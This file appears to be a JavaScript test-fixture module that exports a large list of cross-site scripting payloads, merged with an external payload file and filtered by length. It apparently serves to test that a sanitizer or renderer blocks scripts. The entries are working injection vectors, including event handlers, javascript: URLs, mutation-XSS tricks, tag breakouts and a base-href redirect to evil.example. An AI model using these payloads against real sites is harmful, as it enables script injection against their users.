/* payloads.mjs - lines that try to run a script: a list of our own, or the file of a larger one. */
/* SPDX-License-Identifier: Apache-2.0 */
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";

const OWN = [
  "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=data:,alert(1)></script>", "<img src=x onerror=alert(1)>",
  "<img/src/onerror=alert(1)>", "<IMG SRC=\"javascript:alert(1)\">", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
  "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
  "<iframe src=javascript:alert(1)></iframe>", "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>",
  "<a href=javascript:alert(1)>x</a>", "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"&#106;avascript:alert(1)\">x</a>",
  "<a href=\" javascript:alert(1)\">x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "<a href=vbscript:alert(1)>x</a>",
  "<form action=javascript:alert(1)><input type=submit></form>", "<button formaction=javascript:alert(1)>x</button>",
  "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>", "<body onload=alert(1)>", "<style>@import 'javascript:alert(1)'</style>",
  "<p style=\"background:url(javascript:alert(1))\">x</p>", "<link rel=stylesheet href=javascript:alert(1)>", "<base href=//evil.example/>",
  "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "</style><script>alert(1)</script>", "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><img src=x onerror=alert(1)></template>",
  "\"><img src=x onerror=alert(1)>", "' onmouseover='alert(1)", "\" autofocus onfocus=\"alert(1)", "</script><script>alert(1)</script>",
  "{{{alert(1)}}}", "<table><td background=javascript:alert(1)>x</table>", "<x onclick=alert(1)>x</x>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
];

const file = join(process.env.DATELINE_SHARED ?? fileURLToPath(new URL("../../../shared", import.meta.url)), "data/xss-payloads.txt");

export const payloads = existsSync(file)
  ? [...OWN, ...readFileSync(file, "utf8").split(/\r?\n/).filter((line) => line.trim())] : OWN;

/* Those that fit a short field, spread over the list, and all of our own. */
export const shortPayloads = (longest, count) => {
  const short = payloads.slice(OWN.length).filter((line) => line.length <= longest && /[<"']/.test(line));
  const step = Math.max(1, Math.floor(short.length / count));
  return [...OWN.filter((line) => line.length <= longest), ...short.filter((_, i) => i % step === 0)];
};
